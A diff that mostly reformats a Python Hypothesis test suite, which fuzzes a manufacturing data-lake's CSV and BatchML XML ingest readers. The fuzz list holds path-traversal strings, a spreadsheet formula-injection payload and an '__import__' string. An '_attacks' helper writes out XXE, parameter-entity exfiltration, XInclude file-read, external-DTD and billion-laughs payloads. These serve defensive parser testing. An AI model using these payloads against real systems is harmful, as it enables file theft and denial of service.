@@ -10,6 +10,7 @@ into a throwaway lake) keeps ingest_log's invariant rows_read = accepted + quara
 Example counts are kept moderate so this file runs in well under a minute; the counts
 actually run are printed at the end of the session (-s) via `EXAMPLES`.
 """
+
 from __future__ import annotations
 
 import gzip
@@ -24,26 +25,38 @@ from pathlib import Path
 import pandas as pd
 import pyarrow.parquet as pq
 import pytest
-from hypothesis import HealthCheck, assume, given, settings
+from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from lake.ingest import READERS, ingest_file
+from demo.plant import demo_site
+from lake.ingest import ingest_file
 from lake.layout import Lake
 from sources import historian_csv, lims, mes_journal, mes_xml, tags
 from sources.base import SourceRejected, sha256_of
-from demo.plant import demo_site
 
 # pyarrow decodes a malformed line's text before calling the invalid-row handler; on invalid UTF-8 that
 # raises inside pyarrow, is reported as "unraisable" and the read fails (-> SourceRejected). Expected here.
 pytestmark = pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
 
 PROFILES = {p.name: p for p in demo_site().files}
-EXAMPLES: Counter = Counter()  # generated inputs actually run, per test (reported by the summary test)
+EXAMPLES: Counter = (
+    Counter()
+)  # generated inputs actually run, per test (reported by the summary test)
 
 # reader, profile, landing path, single table produced (None: several tables, no 1:1 conservation)
 CSV_READERS = {
-    "historian_long": (historian_csv.read_long, PROFILES["historian_long_pi"], "historian/x.csv", "historian_points"),
-    "historian_wide": (historian_csv.read_wide, PROFILES["historian_wide_br102"], "historian/x_wide.csv", "historian_points"),
+    "historian_long": (
+        historian_csv.read_long,
+        PROFILES["historian_long_pi"],
+        "historian/x.csv",
+        "historian_points",
+    ),
+    "historian_wide": (
+        historian_csv.read_wide,
+        PROFILES["historian_wide_br102"],
+        "historian/x_wide.csv",
+        "historian_points",
+    ),
     "lims": (lims.read_lims, PROFILES["lims"], "lims/x.csv", "samples"),
     "tags": (tags.read_tags, PROFILES["tag_dictionary"], "tags/x.csv", "tags"),
     "mes_journal": (mes_journal.read_journal, PROFILES["mes_journal"], "mes/x.csv", None),
@@ -52,22 +65,137 @@ HEADERS = {
     "historian_long": ["Tag", "Timestamp", "Value", "Status"],
     "historian_wide": ["Timestamp", "BR102.TT01.PV", "BR102.PH01.PV"],
     "lims": ["sample_id", "batch_id", "analyte", "value", "unit", "sampled_at", "reported_at"],
-    "tags": ["tag", "unit_id", "parameter", "uom", "role", "interpolation", "low", "high", "max_gap_s", "description"],
-    "mes_journal": ["Time", "BatchID", "RecipePath", "Unit", "Phase", "Event", "PValue", "Descript", "EngUnits"],
+    "tags": [
+        "tag",
+        "unit_id",
+        "parameter",
+        "uom",
+        "role",
+        "interpolation",
+        "low",
+        "high",
+        "max_gap_s",
+        "description",
+    ],
+    "mes_journal": [
+        "Time",
+        "BatchID",
+        "RecipePath",
+        "Unit",
+        "Phase",
+        "Event",
+        "PValue",
+        "Descript",
+        "EngUnits",
+    ],
 }
 
 NASTY = [
-    "", " ", "  \t ", "NaN", "nan", "inf", "-inf", "1e309", "-0", "0x1F", "1,5", "1.5", "١٢٣", "²", "1_000", "+", "-", ".",
-    "2026-03-15T12:00:00Z", "2026-03-15 12:00:00", "2026-03-29 02:30:00", "2026-10-25 02:30:00", "15.03.2026 12:00:00",
-    "29.03.2026 02:30:00", "9999-12-31T23:59:59Z", "0001-01-01", "1677-09-21T00:12:43Z", "2262-04-11T23:47:17Z",
-    "2026-02-30T00:00:00Z", "2026-03-15T25:00:00+14:00", "T", "Z", "+99:99", "1e18", "-9223372036854775809",
-    "Good", "Bad", "192", "64", "0", "Substituted", "I/O Timeout", "Scan Off", "Pt Created",
-    "RUNNING", "COMPLETE", "State Change", "Recipe Header", "Material Charge", "Product Code",
-    "PROC\\UP:1\\OP:1\\PH:1", "PROC", "/", "\\", "\\\\", "::", "|", "../../etc/passwd", "/etc/passwd", "C:\\x",
-    "degF", "degC", "mg/mL", "1e6 cells/mL", "%", "furlong", "**", "1/0", "()", "(", "[", "{}", "__import__('os')",
-    "kg**99999", "10**10**10", "mol/", "temperature", "ph", "feed_rate", "vcd", "pv", "sp", "linear", "step",
-    "<0.5", "> 1", "<", "'", "\"", "\"\"", "a\"b", "=cmd|' /C calc'!A0", "\x00", "a\x00b", "\ufeff", "\u202e", "\ud7ff",
-    "é", "日本", "🧪", "\r", "line\nbreak", ";", ",", "x" * 5000,
+    "",
+    " ",
+    "  \t ",
+    "NaN",
+    "nan",
+    "inf",
+    "-inf",
+    "1e309",
+    "-0",
+    "0x1F",
+    "1,5",
+    "1.5",
+    "١٢٣",
+    "²",
+    "1_000",
+    "+",
+    "-",
+    ".",
+    "2026-03-15T12:00:00Z",
+    "2026-03-15 12:00:00",
+    "2026-03-29 02:30:00",
+    "2026-10-25 02:30:00",
+    "15.03.2026 12:00:00",
+    "29.03.2026 02:30:00",
+    "9999-12-31T23:59:59Z",
+    "0001-01-01",
+    "1677-09-21T00:12:43Z",
+    "2262-04-11T23:47:17Z",
+    "2026-02-30T00:00:00Z",
+    "2026-03-15T25:00:00+14:00",
+    "T",
+    "Z",
+    "+99:99",
+    "1e18",
+    "-9223372036854775809",
+    "Good",
+    "Bad",
+    "192",
+    "64",
+    "0",
+    "Substituted",
+    "I/O Timeout",
+    "Scan Off",
+    "Pt Created",
+    "RUNNING",
+    "COMPLETE",
+    "State Change",
+    "Recipe Header",
+    "Material Charge",
+    "Product Code",
+    "PROC\\UP:1\\OP:1\\PH:1",
+    "PROC",
+    "/",
+    "\\",
+    "\\\\",
+    "::",
+    "|",
+    "../../etc/passwd",
+    "/etc/passwd",
+    "C:\\x",
+    "degF",
+    "degC",
+    "mg/mL",
+    "1e6 cells/mL",
+    "%",
+    "furlong",
+    "**",
+    "1/0",
+    "()",
+    "(",
+    "[",
+    "{}",
+    "__import__('os')",
+    "kg**99999",
+    "10**10**10",
+    "mol/",
+    "temperature",
+    "ph",
+    "feed_rate",
+    "vcd",
+    "pv",
+    "sp",
+    "linear",
+    "step",
+    "<0.5",
+    "> 1",
+    "<",
+    "'",
+    '"',
+    '""',
+    'a"b',
+    "=cmd|' /C calc'!A0",
+    "\x00",
+    "a\x00b",
+    "\ufeff",
+    "\u202e",
+    "\ud7ff",
+    "é",
+    "日本",
+    "🧪",
+    "\r",
+    "line\nbreak",
+    ";",
+    ",",
+    "x" * 5000,
 ]
 cells = st.one_of(
     st.sampled_from(NASTY),
@@ -92,14 +220,28 @@ def _quote(cell: str, delimiter: str) -> str:
 def csv_files(draw, dataset: str) -> tuple[bytes, bool]:
     """(file bytes, gzip it?) around the dataset's header, with odd rows, fields and encodings."""
     delimiter = CSV_READERS[dataset][1].delimiter
-    kind = draw(st.sampled_from(["rows", "rows", "rows", "rows", "bytes", "empty", "header_only", "bad_header"]))
+    kind = draw(
+        st.sampled_from(
+            ["rows", "rows", "rows", "rows", "bytes", "empty", "header_only", "bad_header"]
+        )
+    )
     if kind == "bytes":
         return draw(st.binary(max_size=400)), draw(st.booleans())
     if kind == "empty":
-        return draw(st.sampled_from([b"", b"\n", b"\r\n", b"\xef\xbb\xbf", b" \n\n", b"\x00"])), False
+        return draw(
+            st.sampled_from([b"", b"\n", b"\r\n", b"\xef\xbb\xbf", b" \n\n", b"\x00"])
+        ), False
     header = list(HEADERS[dataset])
     if kind == "bad_header":
-        header = draw(st.lists(st.one_of(st.sampled_from(header + ["", "line", "ts", "Tag", "0"]), st.text(max_size=8)), min_size=1, max_size=6))
+        header = draw(
+            st.lists(
+                st.one_of(
+                    st.sampled_from(header + ["", "line", "ts", "Tag", "0"]), st.text(max_size=8)
+                ),
+                min_size=1,
+                max_size=6,
+            )
+        )
     elif draw(st.booleans()):
         header = draw(st.permutations(header))
     lines = [delimiter.join(_quote(h, delimiter) if draw(st.booleans()) else h for h in header)]
@@ -109,13 +251,26 @@ def csv_files(draw, dataset: str) -> tuple[bytes, bool]:
             width = len(header) + draw(st.sampled_from([0, 0, 0, 0, -1, 1, -len(header) + 1, 3]))
             row = [draw(cells) for _ in range(max(width, 1))]
             quote = draw(st.booleans())
-            lines.append(delimiter.join(_quote(c, delimiter) if quote else c.replace("\n", " ").replace("\r", " ") for c in row))
+            lines.append(
+                delimiter.join(
+                    _quote(c, delimiter) if quote else c.replace("\n", " ").replace("\r", " ")
+                    for c in row
+                )
+            )
     text = draw(st.sampled_from(["\n", "\r\n"])).join(lines) + draw(st.sampled_from(["", "\n"]))
     encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "latin-1", "utf-16", "utf-8-sig"]))
-    data = text.encode(encoding, errors="replace") if encoding != "utf-8" else text.encode("utf-8", errors="surrogatepass")
+    data = (
+        text.encode(encoding, errors="replace")
+        if encoding != "utf-8"
+        else text.encode("utf-8", errors="surrogatepass")
+    )
     if draw(st.integers(0, 9)) == 0:  # a stray invalid byte somewhere
         at = draw(st.integers(0, len(data)))
-        data = data[:at] + draw(st.sampled_from([b"\xff", b"\xc3", b"\x00", b"\xed\xa0\x80"])) + data[at:]
+        data = (
+            data[:at]
+            + draw(st.sampled_from([b"\xff", b"\xc3", b"\x00", b"\xed\xa0\x80"]))
+            + data[at:]
+        )
     return data, draw(st.integers(0, 7)) == 0
 
 
@@ -140,7 +295,11 @@ def check_reader(reader, path: Path, rel: str, profile, table: str | None):
     produced = sum(len(t) for t in res.tables.values())
     if table is not None:
         assert set(res.tables) == {table}
-        assert res.rows_read == produced + len(res.rejects), (res.rows_read, produced, len(res.rejects))
+        assert res.rows_read == produced + len(res.rejects), (
+            res.rows_read,
+            produced,
+            len(res.rejects),
+        )
     assert res.rows_read >= 0
     assert res.rejects["source_row"].notna().all()
     for frame in res.tables.values():
@@ -152,7 +311,11 @@ def check_reader(reader, path: Path, rel: str, profile, table: str | None):
 def _csv_property(dataset: str):
     reader, profile, rel, table = CSV_READERS[dataset]
 
-    @settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+    @settings(
+        max_examples=120,
+        deadline=None,
+        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+    )
     @given(csv_files(dataset))
     def prop(generated):
         data, gz = generated
@@ -173,19 +336,70 @@ test_mes_journal_reader_parses_or_refuses = _csv_property("mes_journal")
 
 # ---------------------------------------------------------------- BatchML XML
 
-xml_text = st.one_of(st.sampled_from(NASTY), st.text(max_size=20), st.integers(-(10**30), 10**30).map(str))
-XML_NAMES = ["BatchList", "BatchListEntry", "ID", "BatchListEntryType", "Status", "RecipeID", "BatchID", "ProductID",
-             "ActualStartTime", "ActualEndTime", "EquipmentID", "ActualEquipmentID", "BatchProductionRecord", "Version",
-             "LastChangedDate", "MaterialActual", "Quantity", "QuantityString", "UnitOfMeasure", "MaterialActualProperty",
-             "Value", "ValueString", "MaterialDefinitionID", "Description", "MaterialUse", "Sample", "EntryID", "TimeStamp",
-             "SampleTest", "TestName", "SampleTestResult", "Results", "ExecutedControlRecipe", "RuntimeRecipeElement",
-             "RecipeElementType", "CompletionTime", "Header"]
-ENTRY_TYPES = ["Batch", "Procedure", "Unit Procedure", "UnitProcedure", "Operation", "Phase", "batch", ""]
+xml_text = st.one_of(
+    st.sampled_from(NASTY), st.text(max_size=20), st.integers(-(10**30), 10**30).map(str)
+)
+XML_NAMES = [
+    "BatchList",
+    "BatchListEntry",
+    "ID",
+    "BatchListEntryType",
+    "Status",
+    "RecipeID",
+    "BatchID",
+    "ProductID",
+    "ActualStartTime",
+    "ActualEndTime",
+    "EquipmentID",
+    "ActualEquipmentID",
+    "BatchProductionRecord",
+    "Version",
+    "LastChangedDate",
+    "MaterialActual",
+    "Quantity",
+    "QuantityString",
+    "UnitOfMeasure",
+    "MaterialActualProperty",
+    "Value",
+    "ValueString",
+    "MaterialDefinitionID",
+    "Description",
+    "MaterialUse",
+    "Sample",
+    "EntryID",
+    "TimeStamp",
+    "SampleTest",
+    "TestName",
+    "SampleTestResult",
+    "Results",
+    "ExecutedControlRecipe",
+    "RuntimeRecipeElement",
+    "RecipeElementType",
+    "CompletionTime",
+    "Header",
+]
+ENTRY_TYPES = [
+    "Batch",
+    "Procedure",
+    "Unit Procedure",
+    "UnitProcedure",
+    "Operation",
+    "Phase",
+    "batch",
+    "",
+]
 
 
 def _escape(s: str) -> str:
     # XML 1.0 cannot carry most control characters even escaped: drop them (the raw-bytes case covers them)
-    s = "".join(ch for ch in s if ch in "\t\n\r" or (" " <= ch <= "\ud7ff") or ("\ue000" <= ch <= "\ufffd") or ch > "\uffff")
+    s = "".join(
+        ch
+        for ch in s
+        if ch in "\t\n\r"
+        or (" " <= ch <= "\ud7ff")
+        or ("\ue000" <= ch <= "\ufffd")
+        or ch > "\uffff"
+    )
     return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
 
 
@@ -208,17 +422,33 @@ def xml_files(draw) -> bytes:
     if kind == "bytes":
         return draw(st.binary(max_size=300))
     if kind == "empty":
-        return draw(st.sampled_from([b"", b" ", b"<?xml version='1.0'?>", b"<a/>", b"<?xml version='1.0' encoding='klingon'?><a/>"]))
+        return draw(
+            st.sampled_from(
+                [
+                    b"",
+                    b" ",
+                    b"<?xml version='1.0'?>",
+                    b"<a/>",
+                    b"<?xml version='1.0' encoding='klingon'?><a/>",
+                ]
+            )
+        )
     body = "".join(draw(st.lists(xml_elements(), min_size=1, max_size=4)))
-    doc = (f'<?xml version="1.0" encoding="UTF-8"?><BatchInformation xmlns="http://www.mesa.org/xml/B2MML-V0600" '
-           f'xmlns:b2="http://www.mesa.org/xml/B2MML-V0600" xmlns:x="urn:vendor">{body}</BatchInformation>')
+    doc = (
+        f'<?xml version="1.0" encoding="UTF-8"?><BatchInformation xmlns="http://www.mesa.org/xml/B2MML-V0600" '
+        f'xmlns:b2="http://www.mesa.org/xml/B2MML-V0600" xmlns:x="urn:vendor">{body}</BatchInformation>'
+    )
     data = doc.encode("utf-8", errors="surrogatepass")
     if kind == "truncated":
         data = data[: draw(st.integers(0, len(data)))]
     return data
 
 
-@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=200,
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(xml_files())
 def test_batchml_reader_parses_or_refuses(data):
     EXAMPLES["reader:mes_xml"] += 1
@@ -233,7 +463,12 @@ def test_batchml_reader_parses_or_refuses(data):
 # ---------------------------------------------------------------- the full ingest path
 
 ALL_FILES = st.sampled_from([*CSV_READERS, "mes_xml"]).flatmap(  # each dataset about equally often
-    lambda ds: xml_files().map(lambda d: ("mes_xml", d, False)) if ds == "mes_xml" else csv_files(ds).map(lambda g: (ds, *g)))
+    lambda ds: (
+        xml_files().map(lambda d: ("mes_xml", d, False))
+        if ds == "mes_xml"
+        else csv_files(ds).map(lambda g: (ds, *g))
+    )
+)
 REL = {**{ds: v[2] for ds, v in CSV_READERS.items()}, "mes_xml": "mes/x.xml"}
 PROFILE_OF = {**{ds: v[1] for ds, v in CSV_READERS.items()}, "mes_xml": PROFILES["mes_batchml"]}
 
@@ -246,7 +481,9 @@ def assert_only_inside(outside: Path, lake_root: Path, before: set[Path]) -> Non
     """Nothing new appeared in `outside` except under the lake root."""
     for p in outside.rglob("*"):
         if p not in before:
-            assert p.resolve().is_relative_to(lake_root.resolve()), f"{p} was written outside the lake {lake_root}"
+            assert p.resolve().is_relative_to(lake_root.resolve()), (
+                f"{p} was written outside the lake {lake_root}"
+            )
 
 
 def check_ingest(lake: Lake, landing: Path, rel: str, profile) -> dict:
@@ -262,20 +499,35 @@ def check_ingest(lake: Lake, landing: Path, rel: str, profile) -> dict:
     # what the lake holds agrees with the outcome
     logs = pd.concat(pd.read_parquet(p) for p in lake.silver("ingest_log").glob("*.parquet"))
     row = logs[logs.sha256 == log["sha256"]].iloc[-1]
-    assert (row.rows_read, row.rows_accepted, row.rows_quarantined, row.status) == (log["rows_read"], log["rows_accepted"], log["rows_quarantined"], log["status"])
+    assert (row.rows_read, row.rows_accepted, row.rows_quarantined, row.status) == (
+        log["rows_read"],
+        log["rows_accepted"],
+        log["rows_quarantined"],
+        log["status"],
+    )
     q = lake.silver("quarantine") / f"{log['sha256']}.parquet"
     # quarantine has one row per rejected row *and reason*: at least one per quarantined row, none without
     q_rows = pq.read_metadata(q).num_rows if q.exists() else 0
-    assert q_rows >= log["rows_quarantined"] and (q_rows == 0) == (log["rows_quarantined"] == 0), (q_rows, log)
+    assert q_rows >= log["rows_quarantined"] and (q_rows == 0) == (log["rows_quarantined"] == 0), (
+        q_rows,
+        log,
+    )
     if log["status"] == "ingested" and log["dataset"] != "mes_journal":
         # accepted rows are all in silver: one file per table, named by the source hash
-        stored = sum(pq.read_metadata(p).num_rows for p in lake.root.joinpath("silver").glob(f"*/{log['sha256']}.parquet")
-                     if p.parent.name not in ("quarantine", "ingest_log"))
+        stored = sum(
+            pq.read_metadata(p).num_rows
+            for p in lake.root.joinpath("silver").glob(f"*/{log['sha256']}.parquet")
+            if p.parent.name not in ("quarantine", "ingest_log")
+        )
         assert stored == log["rows_accepted"], (stored, log)
     return log
 
 
-@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
+@settings(
+    max_examples=120,
+    deadline=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
 @given(ALL_FILES)
 def test_ingest_file_keeps_the_log_invariant_on_any_input(generated):
     dataset, data, gz = generated
@@ -285,20 +537,34 @@ def test_ingest_file_keeps_the_log_invariant_on_any_input(generated):
         path = _write(root / "landing", REL[dataset], data, gz)
         lake = Lake(root / "lake")
         before = set(root.rglob("*"))
-        log = check_ingest(lake, root / "landing", path.relative_to(root / "landing").as_posix(), PROFILE_OF[dataset])
+        log = check_ingest(
+            lake,
+            root / "landing",
+            path.relative_to(root / "landing").as_posix(),
+            PROFILE_OF[dataset],
+        )
         assert_only_inside(root, lake.root, before)
         EXAMPLES[f"ingest-status:{log['status']}"] += 1
 
 
 # ---------------------------------------------------------------- targeted cases the generators may miss
 
+
 def test_a_gz_file_that_is_not_gzip_is_refused_in_one_line(tmp_path):
     path = tmp_path / "historian" / "x.csv.gz"
     path.parent.mkdir()
     path.write_bytes(b"Tag,Timestamp,Value,Status\nA,2026-01-01T00:00:00Z,1,Good\n")
-    check_reader(historian_csv.read_long, path, "historian/x.csv.gz", PROFILES["historian_long_pi"], "historian_points")
+    check_reader(
+        historian_csv.read_long,
+        path,
+        "historian/x.csv.gz",
+        PROFILES["historian_long_pi"],
+        "historian_points",
+    )
     with pytest.raises(SourceRejected):
-        historian_csv.read_long(path, sha256_of(path), "historian/x.csv.gz", PROFILES["historian_long_pi"])
+        historian_csv.read_long(
+            path, sha256_of(path), "historian/x.csv.gz", PROFILES["historian_long_pi"]
+        )
 
 
 @pytest.mark.parametrize("dataset", sorted(CSV_READERS))
@@ -307,9 +573,19 @@ def test_duplicate_and_unbalanced_header_columns(tmp_path, dataset):
     d = profile.delimiter
     header = HEADERS[dataset]
     cases = [
-        d.join(header + [header[0]]) + "\n" + d.join(["1"] * (len(header) + 1)) + "\n",  # a duplicated column name
-        d.join(['"' + header[0] + d + 'x"', *header[1:]]) + "\n" + d.join(["1"] * len(header)) + "\n",  # delimiter inside a quoted name
-        d.join(header) + "\n" + ("\n" * 3) + d.join(["2026-03-15 12:00:00"] * len(header)) + "\n",  # blank lines
+        d.join(header + [header[0]])
+        + "\n"
+        + d.join(["1"] * (len(header) + 1))
+        + "\n",  # a duplicated column name
+        d.join(['"' + header[0] + d + 'x"', *header[1:]])
+        + "\n"
+        + d.join(["1"] * len(header))
+        + "\n",  # delimiter inside a quoted name
+        d.join(header)
+        + "\n"
+        + ("\n" * 3)
+        + d.join(["2026-03-15 12:00:00"] * len(header))
+        + "\n",  # blank lines
         d.join(header) + "\n" + d.join(["x" * 1_000_000] * len(header)) + "\n",  # a huge field
     ]
     for i, text in enumerate(cases):
@@ -322,18 +598,31 @@ def test_duplicate_and_unbalanced_header_columns(tmp_path, dataset):
 def test_many_columns_and_a_long_file_stay_conserved(tmp_path):
     reader, profile, rel, table = CSV_READERS["historian_wide"]
     tags_ = [f"T{i}" for i in range(300)]
-    rows = [";".join(["15.03.2026 12:%02d:00" % m] + [("1,5" if (m + i) % 3 else "") for i in range(300)]) for m in range(60)]
+    rows = [
+        ";".join(
+            ["15.03.2026 12:%02d:00" % m] + [("1,5" if (m + i) % 3 else "") for i in range(300)]
+        )
+        for m in range(60)
+    ]
     path = tmp_path / rel
     path.parent.mkdir()
     path.write_text(";".join(["Timestamp", *tags_]) + "\n" + "\n".join(rows) + "\n")
     res = check_reader(reader, path, rel, profile, table)
-    assert res is not None and res.rows_read == sum(1 for m in range(60) for i in range(300) if (m + i) % 3)
+    assert res is not None and res.rows_read == sum(
+        1 for m in range(60) for i in range(300) if (m + i) % 3
+    )
 
 
 def test_journal_with_300_columns_and_python_keywords_as_names(tmp_path):
     reader, profile, rel, _ = CSV_READERS["mes_journal"]
-    header = HEADERS["mes_journal"] + ["class", "def", "_x", "1abc", "line", "ts"] + [f"c{i}" for i in range(300)]
-    row = ["2026-03-15 12:00:00", "B1", "PROC", "BR1", "", "State Change", "RUNNING", "", ""] + ["x"] * (6 + 300)
+    header = (
+        HEADERS["mes_journal"]
+        + ["class", "def", "_x", "1abc", "line", "ts"]
+        + [f"c{i}" for i in range(300)]
+    )
+    row = ["2026-03-15 12:00:00", "B1", "PROC", "BR1", "", "State Change", "RUNNING", "", ""] + [
+        "x"
+    ] * (6 + 300)
     path = tmp_path / rel
     path.parent.mkdir()
     path.write_text(",".join(header) + "\n" + ",".join(row) + "\n")
@@ -344,8 +633,11 @@ def test_journal_with_300_columns_and_python_keywords_as_names(tmp_path):
 def test_batchml_version_in_unicode_digits_or_huge_is_not_a_crash(tmp_path):
     for version in ("²", "٣", "99999999999999999999999", "0"):
         path = tmp_path / "x.xml"
-        path.write_text(f"<BatchList><Version>{version}</Version><BatchListEntry><BatchListEntryType>Batch</BatchListEntryType>"
-                        "<BatchID>B1</BatchID></BatchListEntry></BatchList>", encoding="utf-8")
+        path.write_text(
+            f"<BatchList><Version>{version}</Version><BatchListEntry><BatchListEntryType>Batch</BatchListEntryType>"
+            "<BatchID>B1</BatchID></BatchListEntry></BatchList>",
+            encoding="utf-8",
+        )
         check_reader(mes_xml.read_batchml, path, "mes/x.xml", PROFILES["mes_batchml"], None)
         lake_root = tmp_path / f"lake-{len(version)}"
         landing = tmp_path
@@ -355,6 +647,7 @@ def test_batchml_version_in_unicode_digits_or_huge_is_not_a_crash(tmp_path):
 
 
 # ---------------------------------------------------------------- XML attacks (XXE, parameter entities, billion laughs, depth)
+
 
 class _Recorder(http.server.BaseHTTPRequestHandler):
     hits: list[str] = []
@@ -385,20 +678,34 @@ def http_recorder():
 
 def _attacks(url: str, secret_file: Path, secret_dtd: Path) -> dict[str, str]:
     entry = "<BatchList><BatchListEntry><BatchListEntryType>Batch</BatchListEntryType><BatchID>{}</BatchID></BatchListEntry></BatchList>"
-    laughs = '<!ENTITY lol "lol">' + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
+    laughs = '<!ENTITY lol "lol">' + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
+        for i in range(1, 10)
+    )
     return {
-        "xxe_file": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret_file}">]>' + entry.format("&x;"),
-        "xxe_passwd": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + entry.format("&x;"),
-        "xxe_http": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{url}/xxe">]>' + entry.format("&x;"),
-        "parameter_entity_http": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/pe"> %p;]>' + entry.format("&exfil;"),
-        "parameter_entity_file": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "file://{secret_dtd}"> %p;]>' + entry.format("&exfil;"),
-        "external_dtd_http": f'<?xml version="1.0"?><!DOCTYPE BatchList SYSTEM "{url}/ext.dtd">' + entry.format("B1"),
-        "external_dtd_public": f'<?xml version="1.0"?><!DOCTYPE BatchList PUBLIC "-//X//DTD X//EN" "{url}/pub.dtd">' + entry.format("B1"),
+        "xxe_file": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret_file}">]>'
+        + entry.format("&x;"),
+        "xxe_passwd": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        + entry.format("&x;"),
+        "xxe_http": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{url}/xxe">]>'
+        + entry.format("&x;"),
+        "parameter_entity_http": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/pe"> %p;]>'
+        + entry.format("&exfil;"),
+        "parameter_entity_file": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "file://{secret_dtd}"> %p;]>'
+        + entry.format("&exfil;"),
+        "external_dtd_http": f'<?xml version="1.0"?><!DOCTYPE BatchList SYSTEM "{url}/ext.dtd">'
+        + entry.format("B1"),
+        "external_dtd_public": f'<?xml version="1.0"?><!DOCTYPE BatchList PUBLIC "-//X//DTD X//EN" "{url}/pub.dtd">'
+        + entry.format("B1"),
         "billion_laughs": f'<?xml version="1.0"?><!DOCTYPE r [{laughs}]>' + entry.format("&lol9;"),
-        "quadratic_blowup": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + "a" * 50_000 + '">]>' + entry.format("&a;" * 5000),
-        "internal_entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY b "B26-001">]>' + entry.format("&b;"),
+        "quadratic_blowup": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
+        + "a" * 50_000
+        + '">]>'
+        + entry.format("&a;" * 5000),
+        "internal_entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY b "B26-001">]>'
+        + entry.format("&b;"),
         "xinclude": f'<BatchList xmlns="http://www.wbf.org/xml/B2MML-V0401" xmlns:xi="http://www.w3.org/2001/XInclude"><BatchListEntry><BatchListEntryType>Batch</BatchListEntryType>'
-                    f'<BatchID><xi:include href="file://{secret_file}" parse="text"/></BatchID></BatchListEntry></BatchList>',
+        f'<BatchID><xi:include href="file://{secret_file}" parse="text"/></BatchID></BatchListEntry></BatchList>',
     }
 
 
@@ -444,25 +751,36 @@ def test_deeply_nested_xml_is_refused_not_a_crash(tmp_path, depth):
 def test_report_generated_example_counts():
     """Runs last in this file (pytest keeps file order): prints how many inputs were generated."""
     total = sum(v for k, v in EXAMPLES.items() if not k.startswith("ingest-status"))
-    print(f"\nhypothesis inputs run: {total} " + ", ".join(f"{k}={v}" for k, v in sorted(EXAMPLES.items())))
+    print(
+        f"\nhypothesis inputs run: {total} "
+        + ", ".join(f"{k}={v}" for k, v in sorted(EXAMPLES.items()))
+    )
     if EXAMPLES:  # only meaningful when the property tests ran in this session
         assert total >= 500
 
 
 @pytest.mark.timeout(60)
-@pytest.mark.parametrize("uom", ["10**10**10", "(10**9)**9999", "2^3^4^5", "\x1b", "(" * 40, "kg" * 30])
+@pytest.mark.parametrize(
+    "uom", ["10**10**10", "(10**9)**9999", "2^3^4^5", "\x1b", "(" * 40, "kg" * 30]
+)
 def test_unit_text_that_would_hang_or_crash_pint_is_quarantined_fast(tmp_path, uom):
     """pint evaluates arithmetic in unit strings: '10**10**10' would compute a 10-billion-digit integer."""
     path = tmp_path / "tags" / "x.csv"
     path.parent.mkdir()
-    path.write_text(f"tag,unit_id,parameter,uom,role,interpolation\nT1,BR1,temperature,{_quote(uom, ',')},pv,linear\nT2,BR1,temperature,degF,pv,linear\n")
+    path.write_text(
+        f"tag,unit_id,parameter,uom,role,interpolation\nT1,BR1,temperature,{_quote(uom, ',')},pv,linear\nT2,BR1,temperature,degF,pv,linear\n"
+    )
     started = time.perf_counter()
     res = check_reader(tags.read_tags, path, "tags/x.csv", PROFILES["tag_dictionary"], "tags")
     assert res.tables["tags"].tag.tolist() == ["T2"] and res.rejects.source_row.tolist() == [2]
     path = tmp_path / "lims" / "x.csv"
     path.parent.mkdir()
-    path.write_text("sample_id,batch_id,analyte,value,unit,sampled_at,reported_at\n"
-                    f"S1,B1,vcd,1.5,{_quote(uom, ',')},2026-01-01T00:00:00Z,\nS2,B1,vcd,1.5,1e6 cells/mL,2026-01-01T00:00:00Z,\n")
+    path.write_text(
+        "sample_id,batch_id,analyte,value,unit,sampled_at,reported_at\n"
+        f"S1,B1,vcd,1.5,{_quote(uom, ',')},2026-01-01T00:00:00Z,\nS2,B1,vcd,1.5,1e6 cells/mL,2026-01-01T00:00:00Z,\n"
+    )
     res = check_reader(lims.read_lims, path, "lims/x.csv", PROFILES["lims"], "samples")
-    assert res.tables["samples"].sample_id.tolist() == ["S2"] and res.rejects.check.tolist() == ["uom_syntax"]
+    assert res.tables["samples"].sample_id.tolist() == ["S2"] and res.rejects.check.tolist() == [
+        "uom_syntax"
+    ]
     assert time.perf_counter() - started < 10
